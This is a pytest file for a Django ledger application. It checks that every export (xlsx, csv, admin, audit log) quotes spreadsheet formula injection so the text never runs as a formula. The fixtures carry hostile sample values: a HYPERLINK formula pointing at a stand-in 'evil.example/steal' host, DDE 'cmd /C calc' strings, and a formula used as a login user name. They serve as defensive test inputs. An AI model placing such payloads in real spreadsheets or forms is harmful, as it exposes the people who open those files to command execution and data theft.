"""No export carries a live formula — xlsx, csv, the admin's export, the audit csv.

OWASP "CSV Injection": a cell starting with = + - @ tab or CR is a formula to Excel and WPS.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from core.spreadsheet_cells import FORMULA_TRIGGERS
from ledgers.exporting import LedgerFilters, ledger_build, ledger_csv, ledger_xlsx
from ledgers.parsing import parse_text
from ledgers.resources import ProjectResource, WeeklyReportResource
from tests.factories import ProjectFactory, UserFactory
from tracker.choices import Role
from tracker.models import Problem, WeeklyReport

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/steal","点此查看")'
MONDAY = dt.date(2025, 9, 22)
DAY = dt.datetime(2025, 9, 24, 10, 0)
NUMBER = re.compile(r"^-?\d+(\.\d+)?%?$")


def _formula_project():
    project = ProjectFactory(name="+cmd|' /C calc'!A0", remarks="@SUM(1+1)")
    Problem.objects.create(
        project=project, description=FORMULA, category="land", level_since=MONDAY, raised_on=MONDAY,
    )
    WeeklyReport.objects.create(
        project=project, week_start=MONDAY, progress_percent=Decimal("-0.00"),
        completed_investment=Decimal("12.50"), funds_in_place=Decimal("10.00"), problem_note=FORMULA,
        procedure_note="-1+1", reporter_phone="+8613800000000", reported_at=timezone.now(),
    )
    return project


def _xlsx_cells(data: bytes):
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _csv_cells(data: bytes) -> list[str]:
    return [value for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for value in row]


def _formula_like(values) -> list[str]:
    """Text that a spreadsheet would run; a plain (negative) figure is a number, not a formula."""
    return [v for v in values if v.startswith(FORMULA_TRIGGERS) and not NUMBER.match(v)]


@time_machine.travel(DAY, tick=False)
@pytest.mark.parametrize("kind", ["master", "problems", "weekly"])
def test_ledger_xlsx_holds_no_formula_cell_for_text_typed_as_a_formula(kind):
    # given a county typed a problem and a weekly note as a formula
    _formula_project()
    table = ledger_build(kind=kind, user=None, filters=LedgerFilters(as_of=DAY.date()))
    # when
    cells = _xlsx_cells(ledger_xlsx(table))
    # then the workbook opens with no formula cell; the text is still there, quoted
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert _formula_like(texts) == []
    if kind != "master":
        assert "'" + FORMULA in texts
    # numbers stay numbers
    assert any(isinstance(c.value, int | float) for c in cells)


@time_machine.travel(DAY, tick=False)
@pytest.mark.parametrize("kind", ["master", "problems", "weekly"])
def test_ledger_csv_cells_never_start_with_a_formula_character(kind):
    # given
    _formula_project()
    table = ledger_build(kind=kind, user=None, filters=LedgerFilters(as_of=DAY.date()))
    # when
    cells = _csv_cells(ledger_csv(table))
    # then
    assert _formula_like(cells) == []
    if kind != "master":
        assert "'" + FORMULA in cells


def test_quoted_text_reads_back_as_typed_on_import():
    # given / when / then: a ledger exported and imported again keeps what was typed
    assert parse_text("'" + FORMULA) == FORMULA
    assert parse_text("'普通说明") == "'普通说明"


@time_machine.travel(DAY, tick=False)
@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_admin_export_neutralises_formulas_and_keeps_figures_numbers(file_format):
    # given
    _formula_project()
    # when
    projects = ProjectResource().export()
    reports = WeeklyReportResource().export()
    # then no exported text starts a formula, in either file format
    for dataset in (projects, reports):
        if file_format == "xlsx":
            cells = _xlsx_cells(dataset.export("xlsx"))
            assert [c.coordinate for c in cells if c.data_type == "f"] == []
            values = [c.value for c in cells if isinstance(c.value, str)]
        else:
            values = _csv_cells(dataset.export("csv").encode())
        assert _formula_like(values) == []
    assert "'" + FORMULA in reports["存在问题"]
    assert "'-1+1" in reports["手续办理进展"]
    assert "'+cmd|' /C calc'!A0" in projects["项目名称"]


@time_machine.travel(DAY, tick=False)
def test_audit_csv_neutralises_a_failed_login_with_a_formula_as_user_name(client):
    # given a failed login whose user name is a formula, then an office leader exports the audit log
    client.post(reverse("login"), {"username": "=1+2|' /C calc'!A0", "password": "x"},
                REMOTE_ADDR="198.51.100.9")
    client.force_login(UserFactory(username="audit-leader", role=Role.OFFICE_LEADER))
    # when
    response = client.get(reverse("audit:export"))
    data = b"".join(response.streaming_content)
    # then
    cells = _csv_cells(data)
    assert "'=1+2|' /C calc'!A0" in cells
    assert _formula_like(cells) == []
